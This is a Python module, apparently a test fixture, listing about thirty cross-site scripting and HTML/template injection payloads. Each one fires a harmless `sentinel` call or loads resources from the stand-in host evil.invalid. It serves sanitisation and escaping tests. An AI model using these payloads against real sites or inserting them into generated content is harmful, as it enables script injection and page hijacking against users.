"""Names that would do something if a page or a text took them for more than names.

What runs in a page calls `sentinel`; what is loaded comes from `ADDRESS`.
"""

ADDRESS = "https://evil.invalid"

PAYLOADS = (
    "<script>sentinel(1)</script>",
    "</script><script>sentinel(2)</script>",
    "</style><script>sentinel(3)</script>",
    "</title><svg/onload=sentinel(4)>",
    "<img src=x onerror=sentinel(5)>",
    "</script><img src=x onerror=sentinel(6)>",
    "<svg><script>sentinel(7)</script></svg>",
    "<svg onload=sentinel(8)>",
    "<math><mi xlink:href=javascript:sentinel(9)>x",
    "<iframe src=javascript:sentinel(10)></iframe>",
    f"<iframe src={ADDRESS}/a></iframe>",
    f"<link rel=stylesheet href={ADDRESS}/b.css>",
    f"<img src={ADDRESS}/c.png>",
    f"<style>@import '{ADDRESS}/d.css';</style>",
    f"<base href={ADDRESS}/>",
    f"<meta http-equiv=refresh content='0;url={ADDRESS}/e'>",
    "<a href=javascript:sentinel(17)>click</a>",
    f"<form action={ADDRESS}/f><button autofocus onfocus=sentinel(18)>go</button></form>",
    "<details open ontoggle=sentinel(19)>",
    "<input autofocus onfocus=sentinel(20)>",
    "javascript:sentinel(21)",
    "data:text/html,<script>sentinel(22)</script>",
    '" onmouseover="sentinel(23)" x="',
    "' autofocus onfocus='sentinel(24)",
    "`${sentinel(25)}`",
    "{{ sentinel(26) }}{% raw %}",
    "<!--<script>sentinel(27)//",
    "]]><script>sentinel(28)</script>",
    f"[a](javascript:sentinel(29)) ![b]({ADDRESS}/g.png) {ADDRESS}/h www.evil.invalid",
    "\u2028sentinel(30)\u2029\u202eexe.gnp",
    "__proto__ constructor toString",
    "a | b\n\n# c\n- @someone #1 !2 ``` <b>d</b>",
)
